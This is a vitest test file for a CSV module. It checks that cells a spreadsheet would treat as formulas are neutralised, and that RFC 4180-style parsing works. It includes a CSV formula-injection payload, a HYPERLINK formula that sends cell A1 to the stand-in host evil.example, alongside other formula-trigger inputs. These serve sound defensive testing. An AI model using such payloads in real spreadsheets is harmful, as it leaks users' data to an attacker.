import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { CSV_START, csvLine, readCsv } from './csv.ts';

test.each([
  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
  ['+263771234567', "'+263771234567"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['  =1+1', "'  =1+1"],
  ['\t=1+1', `"'\t'=1+1"`],
  ['\r=1+1', `"'\r'=1+1"`],
  ['＝1+1', "'＝1+1"],
  ['Ltd;=1+1', `"Ltd;'=1+1"`],
  ['one\n=1+1', `"one\n'=1+1"`],
])('no spreadsheet takes %j for a formula', (text, written) => {
  expect(csvLine([text])).toBe(`${written}\r\n`);
});

test.each(['-5.00', '9999999999999999.99', '0', 'Café', 'a - b', 'a=b', '2026-11-15T11:58:21+02:00'])(
  '%s stays as it is',
  (text) => {
    expect(csvLine([text])).toBe(`${text}\r\n`);
  },
);

test('nothing is a cell too', () => {
  expect(csvLine([null, undefined, '', 0, 'x'])).toBe(',,,0,x\r\n');
});

test('whatever is in them, as many cells come back with the same text but for apostrophes', () => {
  const text = fc.string({ unit: fc.constantFrom('a', '1', ' ', ',', ';', '"', '\r', '\n', '\t', '=', '+', '-', '@') });
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (cells) => {
      const read = readLine(csvLine(cells));
      expect(read.map((cell) => cell.replaceAll("'", ''))).toEqual(cells);
      for (const cell of read) expect(cell).not.toMatch(/^\s*[=+@]|^[\t\r\n]|^\s*-(?!\d+(\.\d+)?$)/);
    }),
  );
});

/** By the letter of RFC 4180. */
function readLine(line: string): string[] {
  const cells: string[] = [];
  for (let rest = `${line.slice(0, -2)},`; rest !== ''; ) {
    const [whole = '', quoted, plain = ''] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*)),/.exec(rest) ?? [];
    expect(whole).not.toBe('');
    cells.push(quoted?.replaceAll('""', '"') ?? plain);
    rest = rest.slice(whole.length);
  }
  return cells;
}

test.each([
  [
    'a,b\n1,2',
    [
      [1, 'a', 'b'],
      [2, '1', '2'],
    ],
  ],
  [
    `${CSV_START}a;b\r\n1;2\r\n`,
    [
      [1, 'a', 'b'],
      [2, '1', '2'],
    ],
  ],
  [
    'a;b,c\n1;2,3',
    [
      [1, 'a;b', 'c'],
      [2, '1;2', '3'],
    ],
  ],
  [
    'a;b\n1,2;3',
    [
      [1, 'a', 'b'],
      [2, '1,2', '3'],
    ],
  ],
  [
    'a\n1;2',
    [
      [1, 'a'],
      [2, '1;2'],
    ],
  ],
  [
    'a\rb\r\rc',
    [
      [1, 'a'],
      [1, 'b'],
      [1, 'c'],
    ],
  ],
  [
    '"a";"say ""hi"""\n"x;1" ;y',
    [
      [1, 'a', 'say "hi"'],
      [2, 'x;1', 'y'],
    ],
  ],
  [
    '"two\nlines", y \n  z\t',
    [
      [1, 'two\nlines', 'y'],
      [3, 'z'],
    ],
  ],
  [
    'a\n"not closed\n1',
    [
      [1, 'a'],
      [2, '"not closed'],
      [3, '1'],
    ],
  ],
  [
    'a,b\n,\n\n1,\n,2',
    [
      [1, 'a', 'b'],
      [4, '1', ''],
      [5, '', '2'],
    ],
  ],
  [
    'a,b\n1,',
    [
      [1, 'a', 'b'],
      [2, '1'],
    ],
  ],
  [`a${CSV_START}`, [[1, 'a']]],
  [`${CSV_START}"a,b"`, [[1, 'a,b']]],
  ['a;b', [[1, 'a', 'b']]],
  ['', []],
])('%j is read as spreadsheets write it', (text, rows) => {
  expect(readCsv(text)).toEqual(rows.map(([line, ...cells]) => ({ line, cells })));
});
